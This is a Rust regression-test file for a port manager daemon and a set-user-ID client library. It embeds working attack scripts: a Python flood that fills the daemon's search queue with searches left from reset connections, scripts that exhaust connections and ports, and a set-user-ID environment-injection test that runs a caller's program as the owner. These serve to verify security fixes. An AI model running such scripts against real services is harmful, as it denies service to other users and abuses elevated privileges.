//! Attacks on issue 12's trust fixes by their second review.
//!
//! The port manager: a search for the processes holding a client's socket stayed queued
//! after its connection was dropped, so one user could fill the daemon's queue of
//! searches (4096) with searches of sockets long closed, and every other user's
//! set-user-ID client was then refused ("too many checks of processes are waiting").
//! And other hosts together could hold every connection the port manager serves (64
//! each, an IPv6 host per /64, and never closed while idle): 64 hosts, or one site with
//! 64 of its /64s, locked every local client out.
//!
//! The library in a set-user-ID program: the caller's environment chose which feeder
//! program it ran (`DAQFLOW_FEEDER`, run with the program's effective uid), which file it
//! appended feeder diagnostics to (`DAQFLOW_FEEDER_LOG`) and whom it trusted
//! (`DAQFLOW_TRUSTED_USERS`).

mod portmgr_support;

use std::io::{BufRead, BufReader, Write};
use std::os::unix::process::CommandExt;
use std::process::{Command, Stdio};

use portmgr_support::{Daemon, Namespace, can_run_clients_as_others, have_python, python_as};

/// The attacker (uid 54341) makes the searches for its sockets slow (children holding
/// many descriptors) and its LIST replies long (240 ports with long names, about 61 KB a
/// LIST, just under the 64 KiB past which a connection's requests wait). Then, 200
/// connections at a time, each: two LISTs that it does not read (with a 4 KB receive
/// buffer, the second reply no longer fits the kernel's buffers, so some 20 KB of it
/// stay in the daemon's), `GIMME x root` (a name not its own: a search is queued
/// and the GIMME waits for it), and a reset. The reset makes the write of the unsent
/// reply fail, and the daemon drops the connection while its search waits. The
/// connection is gone, its uid's count of open connections is down, and the search
/// stays queued: 24 rounds queue more than the daemon's 4096, and smaller rounds then
/// keep the queue full while another user's set-user-ID client asks three times.
const ATTACKER: &str = r#"
import os, resource, select, socket, struct, sys, time
port, rounds = int(sys.argv[1]), int(sys.argv[2])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
kids = []
for _ in range(4):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(min(hard, 20000) - 200)]
        os.write(w, b"x")
        time.sleep(600)
        os._exit(0)
    os.close(w); os.read(r, 1); os.close(r); kids.append(pid)
holds = []
for c in range(4):
    h = socket.create_connection(("127.0.0.1", port)); f = h.makefile("rb")
    for i in range(60):
        h.sendall(b"GIMME " + (b"a%03d" % (c * 60 + i)) * 60 + b" 54341\n")
        assert f.readline().startswith(b"OK")
    holds.append(h)
def round(n, pause):
    socks = []
    for _ in range(n):
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.connect(("127.0.0.1", port)); socks.append(s)
    for s in socks: s.sendall(b"LIST\nLIST\n")
    time.sleep(pause)  # answered, before the GIMME comes
    for s in socks: s.sendall(b"GIMME x root\n")
    time.sleep(pause)  # read, before the reset comes
    for s in socks:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)); s.close()
for _ in range(rounds):
    round(200, 0.15)
print("done", flush=True)
# The searches drain slowly (one at a time): refilled faster, until told to stop.
while not select.select([sys.stdin], [], [], 0)[0]:
    round(20, 0.05)
for pid in kids: os.kill(pid, 9); os.waitpid(pid, 0)
"#;

/// A set-user-ID client (real uid 54342, effective 54343) asking for a port for its real
/// user: answered once its search is done.
const SETUID_CLIENT: &str = r#"
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
s.settimeout(20)
s.sendall(b"GIMME legit 54342\n")
print(s.makefile("rb").readline().decode("latin-1").strip(), flush=True)
"#;

#[test]
fn searches_of_dropped_connections_do_not_fill_the_queue() {
    if !can_run_clients_as_others(20_000) {
        return;
    }
    let daemon = Daemon::start("25001-25300", &[]);
    let mut attacker = python_as(ATTACKER, daemon.port, 54341, 54341)
        .args(["24"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("start the attacker");
    let mut done = String::new();
    let _ = BufReader::new(attacker.stdout.take().expect("stdout")).read_line(&mut done);
    // Three tries, while the attacker keeps its searches coming.
    let legit: Vec<_> =
        (0..3).map(|_| python_as(SETUID_CLIENT, daemon.port, 54342, 54343).output().expect("run the client")).collect();
    // Its stdin closed: the attacker kills its children and exits.
    let _ = attacker.stdin.take().map(|mut stdin| stdin.write_all(b""));
    let _ = attacker.wait();
    assert_eq!(done.trim(), "done", "the attacker did not finish");
    for out in legit {
        let said = String::from_utf8_lossy(&out.stdout).trim().to_string();
        assert!(said.starts_with("OK "), "the set-user-ID client was refused: {said}");
    }
}

/// A consumer of the URL in its first argument: its result and the library's message.
const CONSUMER_C: &str = r#"
#include <stdio.h>
#include <daqflow.h>
int main(int argc, char **argv) {
    struct ring_client *c;
    int rc = ring_attach_consumer(argv[1], &c);
    printf("%d %s\n", rc, rc ? daqflow_last_error() : "attached");
    return 0;
}
"#;

/// The "feeder" the caller names: it leaves a file, made with the ids it runs with.
const CALLERS_FEEDER_C: &str = r#"
#include <fcntl.h>
#include <unistd.h>
int main(void) {
    close(open(OUTPUT, O_CREAT | O_WRONLY, 0644));
    return 0;
}
"#;

/// A stand-in for the installed feeder (found next to the library): it notes the proxy
/// it was asked to feed (its last argument) and the trusted users in its environment.
const INSTALLED_FEEDER_C: &str = r#"
#include <stdio.h>
#include <stdlib.h>
int main(int argc, char **argv) {
    FILE *f = fopen(OUTPUT, "a");
    const char *trusted = getenv("DAQFLOW_TRUSTED_USERS");
    fprintf(f, "%s %s\n", argv[argc - 1], trusted ? trusted : "-");
    fclose(f);
    return 0;
}
"#;

fn cc(dir: &std::path::Path, name: &str, source: &str, args: &[&str]) -> Option<std::path::PathBuf> {
    let c = dir.join(format!("{name}.c"));
    std::fs::write(&c, source).expect("write the source");
    let program = dir.join(name);
    match Command::new("cc").arg("-o").arg(&program).arg(&c).args(args).output() {
        Ok(out) if out.status.success() => Some(program),
        Ok(out) => panic!("cc {name}: {}", String::from_utf8_lossy(&out.stderr)),
        Err(e) => {
            eprintln!("SKIPPED: no C compiler ({e})");
            None
        }
    }
}

/// A program set-user-ID to uid 54351 (a DAQ account, say), linked with libdaqflow, is
/// run by uid 54352 and asked for a consumer of a remote ring (its proxy needs a
/// feeder). Before: with `DAQFLOW_FEEDER` naming a program of the caller's, that program
/// ran with the effective uid 54351; `DAQFLOW_FEEDER_LOG` made the set-user-ID program
/// create (and append to) a file of the caller's choosing as 54351; and
/// `DAQFLOW_TRUSTED_USERS=54352` went on to the feeder it started (which, as 54351, then
/// took a ring master run by 54352's name on the remote host for a real one).
#[test]
fn a_set_user_id_program_takes_nothing_from_its_callers_environment() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    if !nix::unistd::geteuid().is_root() {
        eprintln!("SKIPPED: needs root to make a set-user-ID program and run it as another uid");
        return;
    }
    let (owner, caller) = (54351u32, 54352u32);
    let dir = portmgr_support::TempDir::new("setuidenv");
    std::fs::set_permissions(&dir.0, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    // Where anyone may leave a file.
    let drop_box = dir.0.join("box");
    std::fs::create_dir(&drop_box).expect("mkdir");
    std::fs::set_permissions(&drop_box, std::fs::Permissions::from_mode(0o1777)).expect("chmod");
    // The library next to the program, found by its run path (a set-user-ID program
    // ignores LD_LIBRARY_PATH).
    let lib = std::path::Path::new(env!("DAQFLOW_PROGRAMS")).join("libdaqflow.so");
    for name in ["libdaqflow.so", "libdaqflow.so.1"] {
        std::fs::copy(&lib, dir.0.join(name)).expect("copy libdaqflow.so");
    }
    let include = concat!(env!("CARGO_MANIFEST_DIR"), "/include");
    let rpath = format!("-Wl,-rpath,{}", dir.0.display());
    let link = ["-I", include, "-L", dir.0.to_str().expect("path"), "-ldaqflow", &rpath];
    let Some(consumer) = cc(&dir.0, "consumer", CONSUMER_C, &link) else { return };
    let (pwned, fed) = (drop_box.join("pwned"), drop_box.join("fed"));
    let Some(callers_feeder) =
        cc(&dir.0, "callers-feeder", CALLERS_FEEDER_C, &[&format!("-DOUTPUT=\"{}\"", pwned.display())])
    else {
        return;
    };
    cc(&dir.0, "daqflow-feeder", INSTALLED_FEEDER_C, &[&format!("-DOUTPUT=\"{}\"", fed.display())]);
    std::os::unix::fs::chown(&consumer, Some(owner), Some(owner)).expect("chown");
    std::fs::set_permissions(&consumer, std::fs::Permissions::from_mode(0o4755)).expect("chmod u+s");
    let ring = format!("dfsuid{}", std::process::id());
    let url = format!("tcp://203.0.113.7/{ring}");
    let run = |env: &[(&str, &std::path::Path)]| {
        let mut command = Command::new(&consumer);
        command.arg(&url).uid(caller).gid(caller);
        for (name, value) in env {
            command.env(name, value);
        }
        let out = command.output().expect("run the set-user-ID consumer");
        let said = String::from_utf8_lossy(&out.stdout).trim().to_string();
        assert!(!said.is_empty(), "the consumer did not run: {}", String::from_utf8_lossy(&out.stderr));
        said
    };
    let remove_proxies = || {
        for entry in std::fs::read_dir("/dev/shm").into_iter().flatten().flatten() {
            if entry.file_name().to_string_lossy().contains(&ring) {
                let _ = std::fs::remove_file(entry.path());
            }
        }
    };
    let made_by = |path: &std::path::Path| std::fs::metadata(path).ok().map(|m| m.uid());

    let log = drop_box.join("feeder.log");
    let said = run(&[("DAQFLOW_FEEDER", &callers_feeder), ("DAQFLOW_FEEDER_LOG", &log)]);
    remove_proxies();
    assert_eq!(made_by(&pwned), None, "the caller's feeder ran as uid {:?}: {said}", made_by(&pwned));
    assert_eq!(made_by(&log), None, "the caller's log file was made as uid {:?}: {said}", made_by(&log));

    let _ = std::fs::remove_file(&fed);
    let said = run(&[("DAQFLOW_TRUSTED_USERS", std::path::Path::new(&caller.to_string()))]);
    remove_proxies();
    let fed = std::fs::read_to_string(&fed).unwrap_or_default();
    // The installed feeder ran (as the program's owner, with the program's trust).
    assert_eq!(fed.split_whitespace().nth(1), Some("-"), "the feeder's DAQFLOW_TRUSTED_USERS: {fed} ({said})");
}

/// Four hosts (four /64s) each open the 64 connections one host may, and say nothing:
/// with `-max-connections 256`, that was every connection, and a local server's GIMME
/// found the daemon full. Other hosts together now hold at most half of them, as at the
/// ring master.
#[test]
fn other_hosts_together_cannot_hold_every_connection() {
    if !have_python() {
        eprintln!("SKIPPED: no python3");
        return;
    }
    let server = "2001:db8:9:1::1";
    let hosts: Vec<String> = (2..6).map(|n| format!("2001:db8:9:{n}::10")).collect();
    let mut addresses: Vec<String> = hosts.iter().map(|a| format!("{a}/64")).collect();
    addresses.push(format!("{server}/64"));
    let Some(namespace) = Namespace::new("dfrt", &addresses) else { return };
    let daemon = Daemon::start_in(&namespace, "pmshare", "25301-25310", &["-max-connections", "256"]);
    let client = r#"
import socket, sys, time
port, server, hosts = int(sys.argv[1]), sys.argv[2], sys.argv[3:]
held = []
for host in hosts:
    for _ in range(64):
        s = socket.socket(socket.AF_INET6); s.bind((host, 0)); s.connect((server, port)); held.append(s)
time.sleep(0.5)  # all accepted (or refused) before the local client comes
local = socket.create_connection(("127.0.0.1", port)); local.settimeout(5)
local.sendall(b"GIMME server root\n")
try:
    print(local.makefile("rb").readline().decode("latin-1").strip() or "closed")
except OSError as e:
    print("failed: %s" % e)
"#;
    let out = namespace
        .command("python3", &["-c", client, &daemon.port.to_string(), server])
        .args(&hosts)
        .output()
        .expect("run the clients in the namespace");
    let said = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert!(said.starts_with("OK "), "the local server's GIMME: {said} {}", String::from_utf8_lossy(&out.stderr));
}

/// Without the user check the per-user port limit counted names, and the per-user
/// connection cap did not apply at all, so one local user took the whole pool under names
/// of its choosing, 64 per connection (512 ports here). Names stay free (the switch exists
/// for the legacy protocol's free naming) but ports count against the socket's owner.
#[test]
fn without_the_user_check_one_user_still_holds_no_more_than_the_limit() {
    if !nix::unistd::geteuid().is_root() || !have_python() {
        eprintln!("SKIPPED: needs root and python3");
        return;
    }
    let daemon = Daemon::start("25401-25999", &["-no-user-check"]);
    let hog = r#"
import socket, sys
port, held = int(sys.argv[1]), 0
conns = []
for c in range(8):
    s = socket.create_connection(("127.0.0.1", port)); f = s.makefile("rb"); conns.append(s)
    for i in range(64):
        s.sendall(b"GIMME app%d name%d\n" % (i, c))
        held += f.readline().startswith(b"OK")
print(held, flush=True)
"#;
    let out = python_as(hog, daemon.port, 54371, 54371).output().expect("run the hog");
    let held: usize = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap_or(0);
    assert!(held <= 256, "uid 54371 holds {held} ports (the per-user limit is 256)");
}
